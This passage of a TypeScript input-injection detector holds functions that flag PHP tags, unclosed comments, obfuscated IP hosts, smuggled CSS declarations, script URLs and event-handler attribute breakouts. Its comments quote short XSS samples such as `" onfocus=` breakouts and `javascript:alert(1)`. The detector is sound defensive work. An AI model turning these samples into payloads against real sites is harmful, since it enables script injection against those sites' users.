 * into HTML, a bogus comment that swallows markup up to the next `>`). XML declarations and
 * processing instructions (`<?xml …?>`, `<?xml-stylesheet`) name their target right after `<?` and
 * pass, as does prose (`what <? this`). Each `<?` costs a bounded look-ahead (64 characters); the
 * search resumes after it: linear.
 */
function phpCode(s: string): boolean {
  const n = s.length;
  // Each `<?` found by its `?` (no two overlap, so the same ones in the same order): a search for the
  // two characters stopped at every `<` of a `<`-dense value (1 MB of `<a <a`: ~7% of the detector).
  for (let m = s.indexOf('?', 1); m !== -1; m = nextOf(s, 63, '?', m + 1)) {
    if (s.charCodeAt(m - 1) !== 60) continue;
    const i = m - 1;
    let p = i + 2;
    const c = s.charCodeAt(p);
    if ((c | 0x20) === 112 /* p */) {
      if (startsWithLower(s, p, 'php') && !isIdentChar(s.charCodeAt(p + 3))) return true;
      continue;
    }
    if (c === 61 /* = */) p++;
    else if (!isHtmlSpace(c)) continue;
    const lim = Math.min(n, i + 64);
    while (p < lim && isHtmlSpace(s.charCodeAt(p))) p++;
    if (s.charCodeAt(p) === 36 /* $ */ && (isAsciiLetter(s.charCodeAt(p + 1)) || s.charCodeAt(p + 1) === 95)) return true;
    if (!isAsciiLetter(s.charCodeAt(p))) continue;
    const a = p;
    while (p < lim && isIdentChar(s.charCodeAt(p))) p++;
    if (s.charCodeAt(p) === 40 /* ( */ && p > a) return true;
    let q = p;
    while (q < lim && isHtmlSpace(s.charCodeAt(q))) q++;
    const d = s.charCodeAt(q);
    if (q > p && (d === 36 || d === 39 || d === 34)) return true;
  }
  return false;
}

/**
 * The value is nothing but end tags of context elements (`</textarea>`, `</title>`, `</body></html>`),
 * after an optional quote and `>` that close an attribute: it can only mean to end the element it was
 * placed in. A fragment that ends a document it opened, or prose about end tags ("the </script> tag
 * ends a script"), has more than end tags. Reads the value once, stopping at the first other
 * character.
 */
function onlyEndTags(s: string): boolean {
  const n = s.length;
  let p = 0;
  while (p < n && (s.charCodeAt(p) <= 32 || isQuote(s.charCodeAt(p)))) p++;
  if (s.charCodeAt(p) === 62 /* > */) p++;
  let count = 0;
  while (p < n) {
    const c = s.charCodeAt(p);
    if (c <= 32) {
      p++;
      continue;
    }
    if (c !== 60 || s.charCodeAt(p + 1) !== 47 || !isAsciiLetter(s.charCodeAt(p + 2))) return false;
    const a = p + 2;
    let e = a;
    while (e < n && e - a < 16 && isAlnum(s.charCodeAt(e))) e++;
    if (!CONTEXT_ELEMENTS.has(s.slice(a, e).toLowerCase())) return false;
    while (e < n && isHtmlSpace(s.charCodeAt(e))) e++;
    if (s.charCodeAt(e) !== 62) return false;
    p = e + 1;
    count++;
  }
  return count > 0;
}

/**
 * Where an HTML comment opens and never closes (no `-->`, `--!>`; `<!-->` and `<!--->` close at
 * once), or -1: the page after the value renders as nothing up to the next `-->` it happens to hold.
 * Each `indexOf` starts past the previous match: linear.
 */
function openComment(s: string): number {
  let i = commentOpener(s, 0);
  // Once a closer is known to be absent from some point on, it is not searched for again (a run of
  // `<!-- --!>` would otherwise search for `-->` to the end once per comment).
  let arrowGone = false;
  while (i !== -1) {
    if (s.charCodeAt(i + 4) === 62 || (s.charCodeAt(i + 4) === 45 && s.charCodeAt(i + 5) === 62)) {
      i = commentOpener(s, i + 4);
      continue;
    }
    let close = arrowGone ? -1 : s.indexOf('-->', i + 4);
    if (close === -1) {
      arrowGone = true;
      close = s.indexOf('--!>', i + 4);
      // No `-->` and no `--!>` after this point: this comment stays open.
      if (close === -1) return i;
    }
    i = commentOpener(s, close + 3);
  }
  return -1;
}

/**
 * s.indexOf('<!--', from), searched by its `!--` (rare) and checked for the `<` before it: on a run
 * of `<` the native search for `<!--` matched its first character at every position (~5 µs/KB of
 * the detector on 1 MB of `<<<<`). Each `!--` is looked at once: linear.
 */
function commentOpener(s: string, from: number): number {
  for (let k = s.indexOf('!--', from + 1); k !== -1; k = s.indexOf('!--', k + 1)) {
    if (s.charCodeAt(k - 1) === 60) return k - 1;
  }
  return -1;
}

/** Only blanks, quotes and `>` (which close an attribute and its tag) come before `p`: markup that starts the value. */
function leadsValue(s: string, p: number): boolean {
  for (let k = 0; k < p; k++) {
    const c = s.charCodeAt(k);
    if (!(c <= 32 || isQuote(c) || c === 62)) return false;
  }
  return true;
}

/** `v[a, e)` is http, https, ftp, ws or wss, in any case. */
function webScheme(v: string, a: number, e: number): boolean {
  const len = e - a;
  const c0 = v.charCodeAt(a) | 0x20;
  if (c0 === 104 /* h */) return (len === 4 || len === 5) && startsWithLower(v, a, len === 4 ? 'http' : 'https');
  if (c0 === 119 /* w */) return (len === 2 || len === 3) && startsWithLower(v, a, len === 2 ? 'ws' : 'wss');
  return len === 3 && startsWithLower(v, a, 'ftp');
}

/**
 * A URL attribute value whose host is an IPv4 address written the way only evasion writes it: one
 * integer (`http://1113982867/`), hex or octal parts (`0x7f.1`, `0177.0.0.1`), or fewer than four
 * parts (`127.1`). Browsers resolve all of them; no link or image an editor produces looks like that.
 * Dotted quads are the SSRF detector's. Reads at most the scheme and 256 characters of authority.
 */
function obfuscatedIpHost(v: string): boolean {
  const n = v.length;
  let p = 0;
  while (p < n && v.charCodeAt(p) <= 32) p++;
  // Web schemes or scheme-relative: `tel://5550100` is a phone number. (Compared in place: this
  // runs for every link and image.)
  let q = p;
  while (q < n && q - p < 8 && isAsciiLetter(v.charCodeAt(q))) q++;
  if (q > p) {
    if (v.charCodeAt(q) !== 58 /* : */ || !webScheme(v, p, q)) return false;
    q++;
  }
  const s1 = v.charCodeAt(q);
  const s2 = v.charCodeAt(q + 1);
  if (!(s1 === 47 || s1 === 92) || !(s2 === 47 || s2 === 92)) return false;
  const h = q + 2;
  let e = h;
  let a = h;
  while (e < n && e - h < 256) {
    const c = v.charCodeAt(e);
    if (c === 47 || c === 92 || c === 63 || c === 35 || c <= 32) break;
    if (c === 64 /* @ */) a = e + 1;
    e++;
  }
  // The port and a trailing root dot (`http://1113982867./`) are not part of the address.
  for (let k = a; k < e; k++) {
    if (v.charCodeAt(k) === 58) {
      e = k;
      break;
    }
  }
  if (e > a && v.charCodeAt(e - 1) === 46) e--;
  if (e === a) return false;
  let parts = 1;
  let odd = false;
  let k = a;
  while (k <= e) {
    // One part: decimal digits, or `0x` and hex digits; a leading 0 before more digits is octal.
    const start = k;
    let hex = false;
    if (v.charCodeAt(k) === 48 && (v.charCodeAt(k + 1) | 0x20) === 120) {
      hex = true;
      k += 2;
    }
    const digits = k;
    while (k < e && (hex ? hexVal(v.charCodeAt(k)) >= 0 : isDigit(v.charCodeAt(k)))) k++;
    if (!hex && k === digits) return false;
    if (hex || (v.charCodeAt(start) === 48 && k - start > 1)) odd = true;
    if (k === e) break;
    if (v.charCodeAt(k) !== 46) return false;
    parts++;
    k++;
  }
  return odd || parts < 4;
}

/** The registrable part of an http(s) URL's host (`a.b.example.co.uk` → `example.co.uk`), or ''. */
function siteOf(url: string): string {
  const lowered = url.toLowerCase();
  const scheme = lowered.startsWith('https://') ? 8 : lowered.startsWith('http://') ? 7 : 0;
  if (scheme === 0) return '';
  let e = scheme;
  while (e < lowered.length && e - scheme < 256) {
    const c = lowered.charCodeAt(e);
    if (c === 47 || c === 58 || c === 63 || c === 35 || c === 64) break;
    e++;
  }
  const labels = lowered.slice(scheme, e).split('.');
  if (labels.length <= 2) return labels.join('.');
  const last = labels[labels.length - 1] as string;
  const second = labels[labels.length - 2] as string;
  const keep = last.length === 2 && second.length <= 3 ? 3 : 2;
  return labels.slice(-keep).join('.');
}

/** `xsi:schemaLocation` pairs (namespace, location), both http(s), on different sites. At most 32 pairs. */
function foreignSchemaLocation(v: string): boolean {
  const tokens: string[] = [];
  let k = 0;
  while (k < v.length && tokens.length < 64) {
    while (k < v.length && v.charCodeAt(k) <= 32) k++;
    const a = k;
    while (k < v.length && v.charCodeAt(k) > 32) k++;
    if (k > a) tokens.push(v.slice(a, k));
  }
  for (let i = 0; i + 1 < tokens.length; i += 2) {
    const ns = siteOf(tokens[i] as string);
    const loc = siteOf(tokens[i + 1] as string);
    if (ns !== '' && loc !== '' && ns !== loc) return true;
  }
  return false;
}

/** CSS properties whose `url()` names an SVG resource (a clip path, marker, mask, filter) by fragment. */
const SVG_REFERENCE_PROPERTIES = new Set(['clip-path', 'marker', 'marker-start', 'marker-mid', 'marker-end', 'mask', 'filter']);

/**
 * From `p`, the target of a `url(`: a URL into another document with a fragment (`x.svg#a`), the
 * form that pulls an element of an external SVG into the page. Local references (`#g`), plain image
 * URLs (`mask:url(icon.svg)`) and `data:` URLs pass. At most 256 characters read.
 */
function externalFragment(v: string, p: number): boolean {
  if (p >= v.length || v.charCodeAt(p) === 35 || startsWithLower(v, p, 'data:')) return false;
  for (let k = p; k < v.length && k - p < 256; k++) {
    const c = v.charCodeAt(k);
    if (c === 41 || isQuote(c) || c <= 32) return false;
    if (c === 35) return k > p;
  }
  return false;
}

/**
 * An SVG animation's `to`, `from`, `by` or `values` names something other than fragments of the
 * same document: a sprite animation flips `href` between `#frame1;#frame2`; an injected one sends a
 * link or image to another site.
 */
function animatesToDocument(tag: HtmlTag): boolean {
  for (const a of tag.attributes) {
    if (a.name !== 'to' && a.name !== 'values' && a.name !== 'from' && a.name !== 'by') continue;
    for (const part of a.value.split(';')) {
      const t = part.trim();
      if (t !== '' && t.charCodeAt(0) !== 35) return true;
    }
  }
  return false;
}

/** After `p`: blanks, a CSS property name, blanks, `:`, i.e. a declaration starts. At most 48 characters read. */
function declarationAt(v: string, p: number): boolean {
  const limit = Math.min(v.length, p + 48);
  while (p < limit && v.charCodeAt(p) <= 32) p++;
  const a = p;
  while (p < limit && (isAsciiLetter(v.charCodeAt(p)) || v.charCodeAt(p) === 45)) p++;
  if (p - a < 2) return false;
  while (p < limit && v.charCodeAt(p) <= 32) p++;
  return v.charCodeAt(p) === 58;
}

/**
 * A style attribute read as a CSS declaration list (strings, `url(…)`, blocks), for what honest
 * inline styles never hold:
 * - a declaration hidden inside a string or an unquoted `url(…)` (`font-family:'x;color:red'`,
 *   `url(/a/;color:red/*…)`): written for a parser that ends the string or URL earlier (legacy
 *   browsers, sanitizers), where it then applies. A `data:` URL's `;charset=` and `;base64,` are no
 *   declarations, and a string never closed (a stray apostrophe) proves nothing;
 * - a `}` that closes the declaration block and is followed by more (`font-family:x}color:red`):
 *   the value leaves its block to write rules of its own. A trailing `}` (`color:red;}`, a pasted
 *   rule) is medium, cssBlockBreakout;
 * - `content:url(…)`, which replaces the element with a loaded document, and `url()` references to
 *   an external SVG resource (`clip-path:url(x.svg#a)`, markers, masks, filters), which load another
 *   document into the page. Icons reference their own fragments (`fill:url(#g)`), which pass.
 * Returns the reason, or undefined. One pass; each `;` inside a string looks 48 characters ahead.
 */
function styleInjection(v: string): string | undefined {
  const n = v.length;
  // The current property name, as indices (no string is built unless a url() needs it).
  let nameStart = 0;
  let nameEnd = -1;
  let inName = true;
  let opened = false;
  for (let i = 0; i < n; i++) {
    const c = v.charCodeAt(i);
    if (c === 92 /* \ */) {
      i++;
      continue;
    }
    if (c === 34 || c === 39) {
      // A string: a declaration inside counts once the string closes.
      let smuggled = false;
      const data = startsWithLower(v, i + 1, 'data:');
      let k = i + 1;
      for (; k < n; k++) {
        const d = v.charCodeAt(k);
        if (d === 92) k++;
        else if (d === c) break;
        else if (d === 59 && !data && !smuggled && !endsEntity(v, k) && declarationAt(v, k + 1)) smuggled = true;
      }
      if (k >= n) return undefined;
      if (smuggled) return 'A CSS declaration hidden inside a string of a style attribute.';
      i = k;
      continue;
    }
    if (c === 40 /* ( */) {
      const isUrl = i >= 3 && (v.charCodeAt(i - 3) | 0x20) === 117 && (v.charCodeAt(i - 2) | 0x20) === 114 && (v.charCodeAt(i - 1) | 0x20) === 108;
      if (!isUrl) continue;
      let t = i + 1;
      while (t < n && v.charCodeAt(t) <= 32) t++;
      const quoted = isQuote(v.charCodeAt(t));
      const target = quoted ? t + 1 : t;
      const prop = nameEnd === -1 ? '' : v.slice(nameStart, nameEnd).trim().toLowerCase();
      if (prop === 'content') return 'A CSS content:url() that replaces the element with a loaded document.';
      if (SVG_REFERENCE_PROPERTIES.has(prop) && externalFragment(v, target)) {
        return 'A CSS url() that references an SVG resource in another document.';
      }
      if (quoted) continue; // the string is read by the branch above
      // An unquoted URL runs to `)`; a declaration inside it counts once it closes.
      const data = startsWithLower(v, t, 'data:');
      let smuggled = false;
      let k = t;
      for (; k < n; k++) {
        const d = v.charCodeAt(k);
        if (d === 92) k++;
        else if (d === 41) break;
        else if (d === 59 && !data && !smuggled && !endsEntity(v, k) && declarationAt(v, k + 1)) smuggled = true;
      }
      if (k >= n) return undefined;
      if (smuggled) return 'A CSS declaration hidden inside a url() of a style attribute.';
      i = k;
      continue;
    }
    if (c === 58 /* : */ && inName) {
      nameEnd = i;
      inName = false;
    } else if (c === 59 /* ; */) {
      inName = true;
      nameStart = i + 1;
      nameEnd = -1;
    } else if (c === 123 /* { */) {
      opened = true;
      inName = true;
      nameStart = i + 1;
      nameEnd = -1;
    } else if (c === 125 /* } */) {
      if (!opened) {
        for (let k = i + 1; k < n; k++) {
          const d = v.charCodeAt(k);
          if (!(d <= 32 || d === 59 || d === 125 || isQuote(d))) return 'A } that closes the style declaration block, followed by more CSS.';
        }
        // Only blanks, `;` and `}` follow: nothing else to find (and no rescan per `}`).
        return undefined;
      }
      inName = true;
      nameStart = i + 1;
      nameEnd = -1;
    }
  }
  return undefined;
}

/** The `;` at `k` ends a character reference (`&quot;`, `&#34;`): markup escaping, not CSS. At most 12 characters back. */
function endsEntity(v: string, k: number): boolean {
  for (let j = k - 1; j >= 0 && k - j <= 12; j--) {
    const c = v.charCodeAt(j);
    if (c === 38) return j < k - 1;
    if (!(isAlnum(c) || c === 35)) return false;
  }
  return false;
}

/** `s.startsWith(word, p)` ignoring ASCII case (`word` lower-case). */
function startsWithLower(s: string, p: number, word: string): boolean {
  if (p + word.length > s.length) return false;
  for (let k = 0; k < word.length; k++) if (lower(s.charCodeAt(p + k)) !== word.charCodeAt(k)) return false;
  return true;
}

// ---------------------------------------------------------------------------------------------------
// Outside tags: schemes, event-handler breakouts, CSS, JavaScript strings, templates
// ---------------------------------------------------------------------------------------------------

/**
 * Script URLs outside a tag: `high` at the start of the value or after punctuation (`=`, a quote, `(`,
 * `:`), `medium` after a space in the middle of text; in both cases only when code follows.
 */
function scanSchemes(s: string, best: Best, inert: readonly number[] | undefined): boolean {
  const n = s.length;
  // Next inert attribute value range (pairs ascend, candidates ascend: one merge walk).
  let r = 0;
  // Where the value starts, ignoring the quotes and spaces an attacker may lead with.
  let start = 0;
  while (start < n) {
    const c = s.charCodeAt(start);
    if (c <= 32 || isQuote(c)) start++;
    else break;
  }
  for (let i = 0; i < n; i++) {
    const c = lower(s.charCodeAt(i));
    // Candidate starts: the first letter of a scheme (j v l m d) or `&#` of an encoded one; the next
    // raw character must be the scheme's second letter or something the reader skips.
    let second: number;
    if (c === 106 || c === 100) second = 97; // javascript, data: `a`
    else if (c === 118) second = 98; // vbscript: `b`
    else if (c === 108) second = 105; // livescript: `i`
    else if (c === 109) second = 111; // mocha: `o`
    else if (c === 38) second = -1;
    else continue;
    const nx = i + 1 < n ? s.charCodeAt(i + 1) : -1;
    if (second === -1 ? nx !== 35 : lower(nx) !== second && nx !== 9 && nx !== 10 && nx !== 13 && nx !== 38 && nx !== 60 && nx !== 93) continue;
    const prev = i === 0 ? 32 : s.charCodeAt(i - 1);
    if (isAlnum(prev) || prev === 95 || prev === 45 || prev === 46 || prev === 47) continue;
    if (second === -1) {
      // A reference to a scheme's first letter or a tab, LF or CR (9, 10, 13, 68-118 in decimal,
      // 9-d, 44-76 in hex) starts with the digit 0, 1, 6, 7, 8 or 9, or `x` and 0, 4-7, 9, a or d:
      // a load or two spare refMayStartScheme's call for the others (1 MB of `&#58;`, `&#x3a;`,
      // `&#38;`: a call per reference, ~2 µs/KB).
      const d = i + 2 < n ? s.charCodeAt(i + 2) : -1;
      if ((d | 0x20) === 120) {
        const e = i + 3 < n ? s.charCodeAt(i + 3) | 0x20 : -1;
        if (e !== 48 && !(e >= 52 && e <= 55) && e !== 57 && e !== 97 && e !== 100) continue;
      } else if (d < 48 || d > 57 || (d >= 50 && d <= 53)) continue;
      if (!refMayStartScheme(s, i)) continue;
    }
    const m = schemeAt(s, i, false);
    if (m === undefined) continue;
    if (inert !== undefined) {
      while (r < inert.length && (inert[r + 1] as number) <= i) r += 2;
      if (r < inert.length && (inert[r] as number) <= i) {
        i = (inert[r + 1] as number) - 1;
        continue;
      }
    }
    if (m.kind === 'javascript' && inertScriptUrl(s, 'javascript', m.after, '', '') && (i <= start || isQuote(prev) || prev === 61)) {
      // The whole value (`javascript:void(0)` in a link field): inertScriptUrl reads to its end.
      if (best.wants('low')) best.add('script-url', 'low', 'A javascript: URL that runs nothing (void(0)).');
      continue;
    }
    if (m.kind === 'data') {
      if (activeDataType(s, m.after)) {
        const at = i <= start || prev === 61 || prev === 40 || isQuote(prev) || prev === 58;
        // A whole value that is an SVG drawing with nothing active in it (a signature pad's or a
        // drawing tool's export, an avatar) is medium: see staticSvgDataUrl.
        if (at && i <= start && staticSvgDataUrl(s, i)) {
          if (best.add('script-url', 'medium', 'A data: URL of a static SVG image (no script, handler, link or external reference).')) return true;
          continue;
        }
        if (best.add('script-url', at ? 'high' : 'medium', schemeReason('data'))) return true;
      }
      continue;
    }
    if (!codeFollows(s, m.after)) {
      if (best.wants('low')) best.add('script-url', 'low', `A ${m.kind}: scheme without code after it.`);
      i = m.after - 1;
      continue;
    }
    // Mid-text after a space ("try javascript:alert(1) in the console") is only medium; after any
    // punctuation (`=`, a quote, `(`, `:`, `>`, `?`, `;` of an entity) it is a URL being placed.
    const anchored = i <= start || !(prev <= 32 || prev === 0xa0);
    if (best.add('script-url', anchored ? 'high' : 'medium', schemeReason(m.kind))) return true;
    i = m.after - 1;
  }
  return false;
}

/** Longest value staticSvgDataUrl reads (longer SVG data URLs stay high). */
const STATIC_SVG_MAX = 512 * 1024;

/**
 * The value from `i` to its end (trailing blanks aside) is `data:image/svg+xml[;charset=utf-8|;utf8]
 * [;base64],<payload>`, spelled plainly, whose payload (strict base64, percent-encoded or raw) is a
 * static SVG drawing (staticSvg). Signature pads (`toDataURL('image/svg+xml')`), drawing and chart
 * exports and avatar editors send exactly that as a field's value. An SVG with no script, event
 * handler, link, animation, foreign content, style sheet, entity declaration or external reference
 * runs and loads nothing wherever a page puts the URL (an image, a link, a frame); anything else
 * (or a reference, an escape, a longer value) stays high. Cost: only for such a value, one strict
 * base64 or percent decode and one pass over the decoded text, at most STATIC_SVG_MAX characters.
 */
function staticSvgDataUrl(s: string, i: number): boolean {
  let e = s.length;
  while (e > i && s.charCodeAt(e - 1) <= 32) e--;
  if (e - i > STATIC_SVG_MAX || !startsWithLower(s, i, 'data:image/svg+xml')) return false;
  const p = i + 18;
  const comma = s.indexOf(',', p);
  if (comma < 0 || comma - p > 40) return false;
  let b64 = false;
  const params = s.slice(p, comma).toLowerCase().split(';');
  for (let k = 1; k < params.length; k++) {
    const x = params[k] as string;
    if (x === 'base64' && k === params.length - 1) b64 = true;
    else if (x !== 'charset=utf-8' && x !== 'charset=utf8' && x !== 'utf8' && x !== 'utf-8') return false;
  }
  if (params[0] !== '') return false;
  const body = s.slice(comma + 1, e);
  let text: string | undefined;
  if (b64) text = decodeBase64(body);
  else {
    try {
      text = decodeURIComponent(body);
    } catch {
      return false;
    }
  }
  return text !== undefined && staticSvg(text);
}

/** Elements of a drawing: shapes, groups, gradients, clipping, text. No `a`, `use`, `image`, `style`, `script`, `foreignObject`, animation or filter. */
const STATIC_SVG_TAGS = new Set([
  'svg', 'g', 'path', 'rect', 'circle', 'ellipse', 'line', 'polyline', 'polygon', 'defs', 'lineargradient', 'radialgradient',
  'stop', 'clippath', 'mask', 'title', 'desc', 'text', 'tspan', 'symbol', 'pattern', 'marker',
]);

/**
 * `t` is an SVG document made only of STATIC_SVG_TAGS (an optional `<?xml …?>` first, comments
 * allowed; no DOCTYPE, CDATA or processing instruction after it), whose attributes are no event
 * handler (`on…`), no link (`href`, `xlink:href`, any `…href`) and whose values reference nothing but
 * fragments of the document (`url(#grad)`; any other `url(` fails). One pass: tags are read with
 * their attributes, quotes honoured; text between tags is inert in these elements.
 */
function staticSvg(t: string): boolean {
  const n = t.length;
  let p = 0;
  while (p < n && t.charCodeAt(p) <= 32) p++;
  // The XML declaration only: `<?xml-stylesheet …?>` (an XSLT or CSS sheet) is another processing
  // instruction and fails.
  if (t.startsWith('<?xml', p) && t.charCodeAt(p + 5) <= 32) {
    const end = t.indexOf('?>', p);
    if (end < 0) return false;
    p = end + 2;
  }
  let first = true;
  for (;;) {
    const lt = t.indexOf('<', p);
    if (lt < 0) return !first;
    let q = lt + 1;
    if (t.charCodeAt(q) === 33 /* ! */) {
      if (!t.startsWith('<!--', lt)) return false;
      const end = t.indexOf('-->', lt + 4);
      if (end < 0) return false;
      p = end + 3;
      continue;
    }
    const closing = t.charCodeAt(q) === 47; /* / */
    if (closing) q++;
    const a = q;
    while (q < n && q - a <= 16 && isAlnum(t.charCodeAt(q))) q++;
    const name = t.slice(a, q).toLowerCase();
    if (!STATIC_SVG_TAGS.has(name) || (first && (closing || name !== 'svg'))) return false;
    // The name ends there: a blank, `>` or `/`. A prefix (`<svg:script xmlns:svg="…/2000/svg">`,
    // `<g:a>`, `<text:script xmlns:text="…/1999/xhtml">`) names any element of any namespace.
    const after = t.charCodeAt(q);
    if (!(after <= 32 || after === 62 || after === 47)) return false;
    first = false;
    // Attributes, up to the tag's end.
    for (;;) {
      while (q < n && t.charCodeAt(q) <= 32) q++;
      if (q >= n) return false;
      const c = t.charCodeAt(q);
      if (c === 62 /* > */) break;
      if (c === 47 && t.charCodeAt(q + 1) === 62) {
        q++;
        break;
      }
      const an = q;
      while (q < n) {
        const d = t.charCodeAt(q);
        if (d <= 32 || d === 61 || d === 62 || d === 47 || d === 34 || d === 39 || d === 60) break;
        q++;
      }
      if (q === an) return false;
      const attr = t.slice(an, q).toLowerCase();
      if (attr.startsWith('on') || attr.endsWith('href')) return false;
      while (q < n && t.charCodeAt(q) <= 32) q++;
      if (t.charCodeAt(q) !== 61 /* = */) continue;
      q++;
      while (q < n && t.charCodeAt(q) <= 32) q++;
      const quote = t.charCodeAt(q);
      let vs: number;
      let ve: number;
      if (quote === 34 || quote === 39) {
        vs = q + 1;
        ve = t.indexOf(String.fromCharCode(quote), vs);
        if (ve < 0) return false;
        q = ve + 1;
      } else {
        vs = q;
        while (q < n && t.charCodeAt(q) > 32 && t.charCodeAt(q) !== 62) q++;
        ve = q;
      }
      if (!fragmentRefsOnly(t, vs, ve)) return false;
    }
    p = q + 1;
  }
}

/** In t[a..b): every `url(` (any case, blanks and a quote allowed before the target) targets `#…`, and no `&`, `\\` or `@import`. */
function fragmentRefsOnly(t: string, a: number, b: number): boolean {
  for (let k = a; k < b; k++) {
    const c = t.charCodeAt(k);
    if (c === 38 /* & */ || c === 92 /* \ */ || c === 64 /* @ */) return false;
    if ((c | 0x20) === 117 && startsWithLower(t, k, 'url(')) {
      let j = k + 4;
      while (j < b && (t.charCodeAt(j) <= 32 || t.charCodeAt(j) === 34 || t.charCodeAt(j) === 39)) j++;
      if (t.charCodeAt(j) !== 35 /* # */) return false;
    }
  }
  return true;
}

/**
 * At `p`, `&#`: can schemeAt(s, p, false) match? Its reader decodes this reference first (entityAt's
 * digits, same cap) and then needs a scheme's first letter (`j v l m d`, any case), or a tab, LF or
 * CR, which it skips to read on. Any other code point, or `&#` without digits (read as `&`), starts
 * no scheme, so the call would return undefined. Cost: a dozen loads, no allocation; it spares 1 MB
 * of `&#38;` a Reader, an entity pair and five scheme comparisons per reference (14 -> ~5 µs/KB).
 */
function refMayStartScheme(s: string, p: number): boolean {
  const cp = numericRefValue(s, p);
  if (cp === -1) return false;
  if (cp === 9 || cp === 10 || cp === 13) return true;
  const c = lower(cp);
  return c === 106 || c === 118 || c === 108 || c === 109 || c === 100;
}

/** A call (`f(`, or a tagged template `` f`…` ``) in the first word of a handler value. */
function callsSoon(s: string, p: number): boolean {
  for (let k = p; k < s.length && k - p < 64; k++) {
    const c = s.charCodeAt(k);
    if (c === 40) return true;
    if (c === 96) return k > p && isIdentChar(s.charCodeAt(k - 1));
    if (c <= 32 || c === 62) return false;
  }
  return false;
}

/** An earlier `"` or `'` followed by a space or `/` and an attribute: the value already left a quote. */
function breakoutBefore(s: string, p: number): boolean {
  for (let k = Math.max(0, p - 256); k < p; k++) {
    const c = s.charCodeAt(k);
    if ((c === 34 || c === 39) && (s.charCodeAt(k + 1) === 32 || s.charCodeAt(k + 1) === 47 || s.charCodeAt(k + 1) === 62)) return true;
  }
  return false;
}

/**
 * `on<event>=` where an attribute could start (start of value, whitespace, quote, `/`, `;`, `(`): the
 * value was placed in an attribute or tag and adds a handler. Inside a real tag checkTag already
 * decided; this catches the breakouts (`" onfocus="…`, `' autofocus onfocus=…`).
 */
function scanEventAttributes(s: string, best: Best): boolean {
  const n = s.length;
  for (let i = 0; i + 2 < n; i++) {
    if ((s.charCodeAt(i) | 0x20) !== 111 || (s.charCodeAt(i + 1) | 0x20) !== 110) continue;
    const prev = i === 0 ? 32 : s.charCodeAt(i - 1);
    if (isAlnum(prev) || prev === 95 || prev === 45 || prev === 46 || prev === 36) continue;
    let j = i + 2;
    while (j < n && j - i < 48 && ((s.charCodeAt(j) | 0x20) >= 97 && (s.charCodeAt(j) | 0x20) <= 122)) j++;
    if (j - i < 4) continue;
    let k = j;
    while (k < n && k - j < 16 && (isHtmlSpace(s.charCodeAt(k)) || s.charCodeAt(k) === 11 || s.charCodeAt(k) === 0)) k++;
    if (s.charCodeAt(k) !== 61 /* = */) {
      i = j - 1;
      continue;
    }
    const ev = s.slice(i + 2, j).toLowerCase();
    // What the handler would run: skip spaces and an opening quote.
    let v = k + 1;
    while (v < n && v - k < 16 && (s.charCodeAt(v) <= 32 || isQuote(s.charCodeAt(v)))) v++;
    const hasCode = v < n && s.charCodeAt(v) !== 62 && s.charCodeAt(v) !== 38;
    // A `"` or `'` (or `/`) right before closes the attribute the value sat in; a backtick is a
    // markdown code span ("use `onClick={fn}`") more often than an IE attribute quote.
    const quoted = prev === 34 || prev === 39 || prev === 47;
    let lead = i - 1;
    while (lead >= 0 && s.charCodeAt(lead) <= 32) lead--;
    if (EVENTS.has(ev)) {
      // At the very start of the value (`  onload= `) or after a quote it can only be an attribute
      // being injected. Mid-text after a space (`x onmouseover=alert(1)`, an unquoted attribute) it
      // must also call something or follow an earlier attribute breakout: "use onClick={handler}" in a
      // code review passes as medium.
      // An unquoted `{` with no `}` before the value ends (unclosedBlockAt): a pasted JSX arrow
      // handler, `onClick={() => setCount(c + 1)}`, whose later call is not in the handler.
      const strong = quoted || lead < 0 || (hasCode && (callsSoon(s, v) || breakoutBefore(s, i)) && !unclosedBlockAt(s, k + 1));
      if (strong) {
        if (best.add('event-handler', 'high', `An on${ev.length <= 16 ? ev : '…'}= event handler attribute.`)) return true;
      } else if (best.wants('medium')) {
        best.add('event-handler', 'medium', 'An event handler attribute name with an empty value.');
      }
    } else if (hasCode && (quoted || (lead < 0 && i > 0 && callsSoon(s, v)))) {
      // After a quote, or after the blanks a value starts with (which end an unquoted attribute),
      // the name stands where an attribute starts: any on*= there is a handler, known to this list
      // or not (browsers add events every year). After blanks, it must also call something:
      // `" online=1"` is a setting.
      if (best.add('event-handler', 'high', 'An attribute breakout, then an on*= handler.')) return true;
    } else if (best.wants('low')) {
      best.add('event-handler', 'low', 'An on*= attribute-like token.');
    }
    i = k;
  }
  return false;
}

// CSS: `expression(`, `behavior:`, `-moz-binding:`, with comments, backslash escapes and entities
// inside the keyword undone. Bounded per attempt.

const CSS_BUDGET = 160;

/** Next CSS code unit at `p`, lower-cased, skipping `/* … *\/` and decoding `\65 ` and entities. */
function readCssChar(s: string, p: number, limit: number, out: Reader): boolean {
  while (p < limit) {
    let c = s.charCodeAt(p);
    if (c === 47 /* / */ && s.charCodeAt(p + 1) === 42 /* * */) {
      const close = indexWithin(s, '*/', p + 2, limit);
      if (close === -1) return false;
      p = close + 2;
      continue;
    }
    if (c === 38 /* & */) {
      const e = entityAt(s, p);
      if (e !== undefined) {
        // An entity can itself spell a comment opener: `&#x2F;*`.
        if (e[0] === 47 && s.charCodeAt(e[1]) === 42) {
          const close = indexWithin(s, '*/', e[1] + 1, limit);
          if (close === -1) return false;
          p = close + 2;
          continue;
        }
        out.c = lower(e[0]);
        out.next = e[1];
        return true;
      }
    }
    if (c === 92 /* \ */) {
      let j = p + 1;
      let v = 0;
      while (j < limit && j - p <= 6 && hexVal(s.charCodeAt(j)) >= 0) v = v * 16 + hexVal(s.charCodeAt(j++));
      if (j > p + 1) {
        if (j < limit && (s.charCodeAt(j) === 32 || s.charCodeAt(j) === 9)) j++;
        out.c = lower(v);
        out.next = j;
        return true;
      }
      if (p + 1 < limit) {
        c = s.charCodeAt(p + 1);
        if (c === 10 || c === 13) {
          p += 2;
          continue;
        }
        out.c = lower(c);
        out.next = p + 2;
        return true;
      }
      return false;
    }
    out.c = lower(c);
    out.next = p + 1;
    return true;
  }
  return false;
}

function cssWordAt(s: string, p: number, word: string, limit: number): number {
  const r: Reader = { c: 0, next: 0 };
  for (let k = 0; k < word.length; k++) {
    if (!readCssChar(s, p, limit, r) || r.c !== word.charCodeAt(k)) return -1;
    p = r.next;
  }
  return p;
}

/** `expression(` at a keyword start, comments and escapes inside it undone; returns the index after `(`. */
function cssExpressionAt(s: string, p: number): number {
  const limit = Math.min(s.length, p + CSS_BUDGET);
  const e = cssWordAt(s, p, 'expression', limit);
  if (e === -1) return -1;
  const r: Reader = { c: 0, next: 0 };
